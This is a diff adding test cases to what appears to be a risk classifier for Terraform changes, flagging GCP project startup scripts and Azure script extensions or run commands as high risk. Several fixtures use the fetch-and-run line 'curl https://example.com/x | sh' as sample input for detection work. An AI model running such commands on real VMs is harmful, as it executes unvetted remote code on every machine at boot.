@@ -776,6 +776,61 @@ resource "azurerm_role_assignment" "r" {
     [['azapi_resource.reader', 'terraform-control.azapi.generic-resource', 'high']],
   ],
   [
+    "a startup script put in the project's metadata is high: every VM of the project runs it at boot",
+    ...created(
+      'resource "google_compute_project_metadata_item" "s" {\n  key   = "startup-script"\n  value = "curl https://example.com/x | sh"\n}\n',
+    ),
+    [['google_compute_project_metadata_item.s', 'identity.google.project-startup-script', 'high']],
+  ],
+  [
+    "the project's startup script changed is high",
+    ...edited(
+      'resource "google_compute_project_metadata_item" "s" {\n  key   = "startup-script"\n  value = "echo hi"\n}\n',
+      'echo hi',
+      'curl https://example.com/x | sh',
+    ),
+    [['google_compute_project_metadata_item.s', 'identity.google.project-startup-script', 'high']],
+  ],
+  [
+    "a startup script added to the project's metadata map is high",
+    ...edited(
+      'resource "google_compute_project_metadata" "m" {\n  metadata = {\n    enable-guest-attributes = "TRUE"\n  }\n}\n',
+      '    enable-guest-attributes = "TRUE"\n',
+      '    enable-guest-attributes = "TRUE"\n    startup-script          = "curl https://example.com/x | sh"\n',
+    ),
+    [['google_compute_project_metadata.m', 'identity.google.project-startup-script', 'high']],
+  ],
+  [
+    'quiet guard: another project metadata key is the default tier',
+    ...created(
+      'resource "google_compute_project_metadata_item" "g" {\n  key   = "enable-guest-attributes"\n  value = "TRUE"\n}\n',
+    ),
+    [['google_compute_project_metadata_item.g', 'default', 'low']],
+  ],
+  [
+    "a custom script extension's command changed is high: the VMs run the new script",
+    ...edited(
+      'resource "azurerm_virtual_machine_extension" "e" {\n  name                 = "e"\n  virtual_machine_id   = "vm"\n  publisher            = "Microsoft.Azure.Extensions"\n  type                 = "CustomScript"\n  type_handler_version = "2.0"\n  settings             = jsonencode({ commandToExecute = "echo hi" })\n}\n',
+      'echo hi',
+      'curl https://example.com/x | sh',
+    ),
+    [['azurerm_virtual_machine_extension.e', 'identity.azurerm.custom-script-extension', 'high']],
+  ],
+  [
+    'quiet guard: a monitoring agent extension is the default tier',
+    ...created(
+      'resource "azurerm_virtual_machine_extension" "m" {\n  name                 = "m"\n  virtual_machine_id   = "vm"\n  publisher            = "Microsoft.Azure.Monitor"\n  type                 = "AzureMonitorLinuxAgent"\n  type_handler_version = "1.0"\n}\n',
+    ),
+    [['azurerm_virtual_machine_extension.m', 'default', 'low']],
+  ],
+  [
+    'a run command on an Azure VM is high',
+    ...created(
+      'resource "azurerm_virtual_machine_run_command" "r" {\n  name               = "r"\n  location           = "westeurope"\n  virtual_machine_id = "vm"\n  source {\n    script = "whoami"\n  }\n}\n',
+    ),
+    [['azurerm_virtual_machine_run_command.r', 'identity.azurerm.remote-execution', 'high']],
+  ],
+  [
     'password login turned on for Linux VMs is medium',
     ...edited(
       'resource "azurerm_linux_virtual_machine" "v" {\n  name                            = "v"\n  disable_password_authentication = true\n}\n',
